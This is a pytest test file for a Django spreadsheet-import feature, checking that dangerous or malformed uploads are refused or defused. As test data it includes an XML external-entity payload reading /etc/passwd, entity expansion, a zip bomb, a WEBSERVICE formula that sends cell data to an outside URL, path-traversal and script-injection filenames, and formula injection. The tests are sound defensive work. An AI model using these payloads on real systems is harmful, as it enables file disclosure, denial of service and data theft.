"""Files that do harm or look odd, taken through the reading, the mapping and the planning of a sheet."""

import socket
from datetime import date, datetime, time, timedelta
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from django.test import Client
from openpyxl import Workbook

from qunxing.accounts.models import Kind
from qunxing.directory.models import Organization
from qunxing.intake.models import Batch, SheetRow
from qunxing.intake.reading import ReadingError
from qunxing.intake.sheets import actions
from qunxing.intake.sheets.headings import from_json
from tests import factories as people
from tests.intake.files import BEGIN, END, compound, saved, with_part, with_sheet, workbook
from tests.intake.sheets.made import outcomes, previewed, told, uploaded, uscc

pytestmark = pytest.mark.django_db
HEAD = ["企业名称", "统一社会信用代码", "简介"]
FIRM = "上海示例智能科技有限公司"
GOOD = workbook([HEAD, [FIRM, uscc(1), ""]])
CELL = '<c t="inlineStr"><is><t>{}</t></is></c>'.format


def xml(*rows, start=1):
    return "".join(f'<row r="{n}">{"".join(map(CELL, row))}</row>' for n, row in enumerate(rows, start))


ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>'
    + BEGIN
    + xml(HEAD)
    + '<row r="2"><c t="inlineStr"><is><t>&b;&f;</t></is></c></row>'
    + END
)
REFUSED = {
    "zip bomb": (with_part(GOOD, "xl/worksheets/sheet1.xml", b" " * (40 * 2**20)), "200 times"),
    "far corner": (with_sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + xml(HEAD)), "memory"),
    "password": (compound("EncryptedPackage"), "protected with a password"),
    "truncated": (GOOD[: len(GOOD) // 2], "damaged"),
    "picture": (b"\x89PNG\r\n\x1a\n" + b"\0" * 40, "picture"),
    "zero bytes": (f"{','.join(HEAD)}\r\n甲\0乙有限公司,,\0\r\n".encode(), "bytes that no text has"),
    "no known encoding": (f"{','.join(HEAD)}\r\n".encode() + b"\xff\xfe\xfa\xc3\x28,,\r\n", "encoding cannot be told"),
    "entities": (with_part(GOOD, "xl/worksheets/sheet1.xml", ENTITIES), "damaged"),
    "web page": (b"<html><table><tr><td>x</td></tr></table></html>", "web page"),
    "empty": (b"", "empty"),
    "empty sheet": (workbook([]), "no cells|holds no|empty"),
    "headings alone": (workbook([HEAD]), "no rows"),
    "numbers alone": (workbook([[1, 2], [3, 4]]), "headings"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_file_that_cannot_be_taken_is_refused_with_its_reason(name):
    content, words = REFUSED[name]
    batch = uploaded("organizations", content)
    with pytest.raises(ReadingError) as error:
        actions.preview(batch, actor=batch.owner)
    assert any(word in str(error.value).lower() for word in words.split("|"))
    assert SheetRow.objects.count() == 0


def test_million_empty_rows_cost_nothing():
    rows = "".join(f'<row r="{n}"><c r="A{n}" s="0"/></row>' for n in range(3, 1_000_001))
    batch = previewed("organizations", with_sheet(xml(HEAD, [FIRM, uscc(1)]) + rows))
    assert outcomes(batch) == ["new"]


def test_formula_that_calls_out_is_not_run(monkeypatch):
    def never(*_args, **_words):
        raise AssertionError

    formula = '<c r="A2" t="str"><f>WEBSERVICE("http://example.org/"&amp;B2)</f><v>示例远方有限公司</v></c>'
    content = with_sheet(xml(HEAD) + f'<row r="2">{formula}{CELL(uscc(1))}</row>')
    monkeypatch.setattr(socket.socket, "connect", never)
    batch = previewed("organizations", content)
    assert [(row.outcome, row.values["name"]) for row in batch.rows.all()] == [("new", "示例远方有限公司")]


def test_text_that_is_a_formula_stays_text():
    call = """'=HYPERLINK("http://example.org","点我")"""
    rows = [HEAD, [call, uscc(1), "<script>1</script>"]]
    batch = previewed("organizations", workbook(rows))
    assert [row.values["name"] for row in batch.rows.all()] == [call]


def test_macros_and_links_are_left_alone():
    content = with_part(GOOD, "xl/vbaProject.bin", b"macro")
    content = with_part(content, "xl/externalLinks/externalLink1.xml", b"<externalLink/>")
    batch = previewed("organizations", content, name="sheet.xlsm")
    assert outcomes(batch) == ["new"]


def test_wrong_ending_is_read_by_content():
    assert outcomes(previewed("organizations", GOOD, name="sheet.csv")) == ["new"]
    table = f"{','.join(HEAD)}\r\n示例乙有限公司,,\r\n".encode("gbk")
    assert outcomes(previewed("organizations", table, name="sheet.xlsx")) == ["new"]


def test_three_rows_of_300_columns_are_shown_whole():
    wide = [*HEAD, *(f"列{n}" for n in range(297))]
    batch = previewed("organizations", workbook([wide, [FIRM, uscc(1), *"x" * 298], ["示例乙", "", *"y" * 298]]))
    mapping = from_json(batch.mapping)[0]
    assert (len(mapping.headings), len(mapping.unknown)) == (300, 297)
    assert len(batch.rows.first().cells) == 300


def test_rare_characters_and_emoji_are_kept():
    batch = previewed("organizations", workbook([HEAD, ["𠮷野家🍜科技有限公司", uscc(1), "👩\u200d🚀"]]))
    actions.apply(batch, actor=batch.owner)
    found = Organization.objects.get()
    assert (found.name, found.description) == ("𠮷野家🍜科技有限公司", "👩\u200d🚀")


def test_marks_that_turn_the_writing_are_dropped():
    batch = previewed("organizations", workbook([HEAD, ["上海\u202e示例\u202c有限\u200f公司", uscc(1), ""]]))
    actions.apply(batch, actor=batch.owner)
    assert Organization.objects.get().name == "上海示例有限公司"


def test_cell_of_40000_characters_is_kept_where_there_is_room_and_refused_elsewhere():
    long = "长" * 32_000
    table = f"{','.join(HEAD)}\r\n{FIRM},{uscc(1)},{'长' * 40_000}\r\n{'长' * 40_000},,\r\n".encode()
    batch = previewed("organizations", table, name="sheet.csv")
    assert outcomes(batch) == ["new", "error"]
    assert "has 40000 characters; at most 200" in told(batch.rows.last())[0][1]
    assert outcomes(previewed("organizations", workbook([HEAD, [FIRM, uscc(1), long]]))) == ["new"]


@pytest.mark.parametrize("name", ["   ", "\u3000\u3000", "\u200e\u200f", "\u202e \u2060"])
def test_name_of_nothing_to_see_is_an_error(name):
    batch = previewed("organizations", workbook([HEAD, [name, uscc(1), "x"]]))
    assert outcomes(batch) == ["error"]
    assert told(batch.rows.get())[0][0] == "name"


def test_code_that_a_spreadsheet_rounded_is_refused_and_not_guessed():
    batch = previewed("organizations", workbook([HEAD, [FIRM, 9.13501e17, ""], ["示例乙有限公司", "9.13501E+17", ""]]))
    assert outcomes(batch) == ["error", "error"]
    assert [("lost" in told(row)[0][1], told(row)[0][0]) for row in batch.rows.all()] == [(True, "uscc")] * 2


def test_titles_merged_cells_and_a_second_header_are_read_over():
    rows = [["入驻企业名单", None, None], HEAD, [FIRM, uscc(1), ""], HEAD, ["示例乙有限公司", "", ""]]
    batch = previewed("organizations", workbook(rows, merged=["A1:C1"]))
    assert [(row.row, row.values["name"]) for row in batch.rows.order_by("number")] == [
        (3, FIRM),
        (5, "示例乙有限公司"),
    ]


def test_old_workbook_and_utf16_are_read():
    table = f"{chr(9).join(HEAD)}\r\n{FIRM}\t{uscc(1)}\t\r\n".encode("utf-16")
    assert outcomes(previewed("organizations", table, name="sheet.txt")) == ["new"]


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd",
        'a"<script>alert(1)</script>.xlsx',
        "甲\n乙\0.xlsx",
        "\u202egnp.xlsx",
        "长" * 300 + ".xlsx",
        "=1+1",
    ],
)
def test_name_of_a_file_is_but_a_name(name, settings, client):
    batch = previewed("organizations", GOOD, name=name)
    assert Path(batch.file.path).parent.resolve().is_relative_to(Path(settings.MEDIA_ROOT).resolve())
    assert Path(batch.file.path).name == f"{batch.ref}.sheet"
    client.force_login(batch.owner)
    page = client.get(batch.get_absolute_url())
    assert (page.status_code, "<script>alert" in page.content.decode()) == (200, False)


def test_hidden_record_is_told_like_one_that_there_is_not():
    """Neither the words nor what they are about tell the two apart."""
    hidden = people.organization(name="秘密智能科技有限公司", visibility="internal")
    head = ["企业名称", "产品名称"]
    reader = people.user(Kind.MANAGER)
    batch = previewed("products", [head, [hidden.name, "甲"], ["没有的科技有限公司", "乙"]], actor=reader)
    one, other = (told(row) for row in batch.rows.order_by("number"))
    assert [(column, text.replace(hidden.name, "X")) for column, text in one] == [
        (column, text.replace("没有的科技有限公司", "X")) for column, text in other
    ]
    assert outcomes(batch) == ["error", "error"]


def test_form_that_has_expired_takes_nothing_in():
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(people.user(Kind.STAFF))
    file = ContentFile(GOOD, "sheet.xlsx")
    assert browser.post("/sheets/organizations/import/", {"file": file, "day": "2026-03-01"}).status_code == 403
    assert Batch.objects.count() == 0


def test_no_cell_makes_the_reading_fail():
    """Whatever kind of value a workbook holds, the row is read or refused with a reason."""
    book = Workbook()
    moment = datetime(2020, 1, 1, 5)  # noqa: DTZ001 - as a workbook has it
    odd = [True, 1e300, -0.0, 10**15, date(1900, 1, 1), moment, time(3), timedelta(days=400), "#N/A"]
    heads = ["企业名称", "统一社会信用代码", "成立时间", "注册资本", "官网", "角色", "地址"]
    book.active.append(heads)
    for value in odd:
        book.active.append([f"示例{value}", *[value] * 6])
    batch = previewed("organizations", saved(book))
    assert len(outcomes(batch)) == len(odd)
